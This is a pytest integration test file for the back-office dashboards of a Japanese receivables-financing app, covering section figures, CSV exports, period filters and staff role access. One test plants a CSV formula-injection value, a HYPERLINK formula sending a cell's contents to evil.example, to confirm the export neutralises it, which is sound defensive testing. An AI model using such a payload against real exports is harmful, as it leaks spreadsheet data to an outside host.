"""The back-office dashboards on a real book built by the services (tests/fixtures/deals.py):
the numbers of every section, the page, the CSV exports (formula cells neutralised), the
period filter and its bad input."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from allauth.account.models import EmailAddress
from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
from django.test import Client

from tests.fixtures.deals import make_deal
from tests.integration.treasury.helpers import (
    approved,
    contracted_deal,
    funded_deal,
    purchase_of,
)
from urikake.backoffice import dashboard
from urikake.receivables.models import DebtorIdentity
from urikake.servicing import overdue
from urikake.treasury import payouts
from urikake.treasury.models import Payout

pytestmark = pytest.mark.django_db


def staff_user(django_user_model: Any, role: str = "treasury") -> Any:
    user = django_user_model.objects.create_user(
        email=f"{role}@staff.example", password="x" * 20, is_staff=True, staff_role=role
    )
    EmailAddress.objects.create(user=user, email=user.email, verified=True, primary=True)
    TOTP.activate(user, generate_totp_secret())
    return user


def build_book(staff: Any) -> None:
    """Five applications of one client: offered, accepted, contracted, and two funded (one
    three-party, one two-party), their advances sent; the first funded one defaulted."""
    offered = make_deal(amount=1_100_000, accept=False)
    same = {"user": offered.user, "organization": offered.organization}
    offered.organization.__class__.objects.filter(pk=offered.organization.pk).update(
        industry="transport"
    )
    # Five deals open at once: a reviewer widens the client's credit line (docs/plans.md).
    from urikake.plans import services as plans

    plans.adjust_credit_line(
        offered.organization, amount=10_000_000, reason="テスト: 5件同時", acting_user=staff
    )
    make_deal(amount=1_210_000, **same)
    contracted_deal(amount=990_000, **same)
    f1 = funded_deal(staff, amount=880_000, **same)
    funded_deal(staff, product="two_party", amount=770_000, **same)
    value_date = max(p.requested_for for p in Payout.objects.all())
    batch = payouts.build_batch(acting_user=staff, value_date=value_date)
    assert batch is not None
    payouts.mark_sent(approved(batch), acting_user=staff)  # a second treasury user approves
    overdue.mark_default(purchase_of(f1), acting_user=staff, comment="支払停止の連絡")


@pytest.fixture
def book(django_user_model: Any) -> Any:
    staff = staff_user(django_user_model)
    build_book(staff)
    return staff


def test_pipeline_and_approval(book: Any) -> None:
    section = dashboard.build_section("pipeline", dashboard.Period.default())
    stages = [(row[1], row[2]) for row in section.rows if row[0] == "段階"]
    assert stages == [
        ("申込み", 5),
        ("条件提示", 5),
        ("条件承諾", 4),
        ("契約締結", 3),
        ("資金化（送金）", 2),
    ]
    statuses = {row[1]: row[2] for row in section.rows if row[0] == "状態"}
    assert (statuses["条件提示"], statuses["回収不能"], statuses["入金済み"]) == (1, 1, 1)
    approval = dashboard.build_section("approval", dashboard.Period.default())
    assert approval.rows[-1] == ["期間合計", 5, 5, "100.0%"]


def test_time_to_cash(book: Any) -> None:
    rows = {
        row[0]: row[1]
        for row in dashboard.build_section("time_to_cash", dashboard.Period.default()).rows
    }
    assert rows["当日"] == 2
    assert rows["件数"] == 2
    assert rows["中央値（日）"] == 0
    assert rows["90パーセンタイル（日）"] == 0


def test_portfolio_concentration_and_industry(book: Any) -> None:
    debtor = dashboard.build_section("debtor", dashboard.Period.default())
    assert [row[2:] for row in debtor.rows] == [[1_650_000, 2, "100.0%"]]
    assert "HHI（ハーフィンダール・ハーシュマン指数、0〜10,000）: 10000.00" in debtor.notes
    industry = dashboard.build_section("industry", dashboard.Period.default())
    assert industry.rows == [["運輸業・郵便業", 1_650_000, 2, "100.0%"]]


def test_ageing_and_losses(book: Any) -> None:
    ageing = dashboard.build_section("ageing", dashboard.Period.default())
    assert ageing.headers[-2:] == ["合計(円)", "件数"]
    assert ageing.rows[0][0] == "期日未到来"
    assert ageing.rows[0][-2:] == [1_650_000, 2]
    assert all(row[-2:] == [0, 0] for row in ageing.rows[1:])
    losses = dashboard.build_section("losses", dashboard.Period.default())
    assert losses.rows[-1] == ["期間合計", 1_650_000, 880_000, 0, 0, "53.3%", "0.0%"]


def test_the_page_shows_every_chart_with_its_table(book: Any) -> None:
    client = Client()
    client.force_login(book)
    response = client.get("/backoffice/dashboards/")
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    html = response.content.decode()
    assert html.count('<svg xmlns="http://www.w3.org/2000/svg"') == len(dashboard.SECTION_KEYS)
    for text in ("申込みファネル", "承認率", "資金化までの日数", "1,650,000", "53.3%", "HHI"):
        assert text in html, text
    home = client.get("/backoffice/").content.decode()
    assert "/backoffice/dashboards/" in home


def test_csv_export_neutralises_formula_names(book: Any) -> None:
    DebtorIdentity.objects.update(
        display_name='=HYPERLINK("http://evil.example/?x="&A1,"株式会社")'
    )
    client = Client()
    client.force_login(book)
    response = client.get("/backoffice/dashboards/debtor.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["コード", "売掛先", "未回収残高(円)", "件数", "占率"]
    assert rows[1][1].startswith("'=HYPERLINK")
    assert rows[1][2] == "1650000"
    assert rows[-1][0].startswith("期間: ")
    for key in dashboard.SECTION_KEYS:
        assert client.get(f"/backoffice/dashboards/{key}.csv").status_code == 200, key
    assert client.get("/backoffice/dashboards/nothing.csv").status_code == 404


def test_period_filter_and_bad_input(book: Any) -> None:
    client = Client()
    client.force_login(book)
    # a period before the book: nothing in it
    response = client.get("/backoffice/dashboards/?start=2001-01-01&end=2001-03-31")
    assert response.status_code == 200
    assert "2001年1月1日〜2001年3月31日" in response.content.decode()
    past = client.get("/backoffice/dashboards/losses.csv?start=2001-01-01&end=2001-03-31")
    rows = list(csv.reader(io.StringIO(past.content.decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:4]] == ["2001-01", "2001-02", "2001-03"]
    assert rows[4][:3] == ["期間合計", "0", "0"]
    for bad, message in (
        ("start=2026-05-01&end=2026-01-01", "終了日は開始日以降"),
        ("start=1900-01-01&end=2026-01-01", "2000年1月1日から"),
        ("start=2010-01-01&end=2026-01-01", "5年以内"),
        ("start=abc&end=", "日付"),
    ):
        response = client.get(f"/backoffice/dashboards/?{bad}")
        assert response.status_code == 200, bad
        assert message in response.content.decode(), bad


def test_who_may_read(django_user_model: Any) -> None:
    for role, allowed in (
        ("reviewer", True),
        ("treasury", True),
        ("admin", True),
        ("compliance", True),
        ("structuring", False),
    ):
        client = Client()
        client.force_login(staff_user(django_user_model, role))
        status = client.get("/backoffice/dashboards/").status_code
        assert (status == 200) is allowed, (role, status)


def test_the_page_in_english(django_user_model: Any, settings: Any) -> None:
    client = Client()
    client.force_login(staff_user(django_user_model, "reviewer"))
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    html = client.get("/backoffice/dashboards/").content.decode()
    assert "<h1>Dashboards</h1>" in html
    assert "The numbers as a table" in html
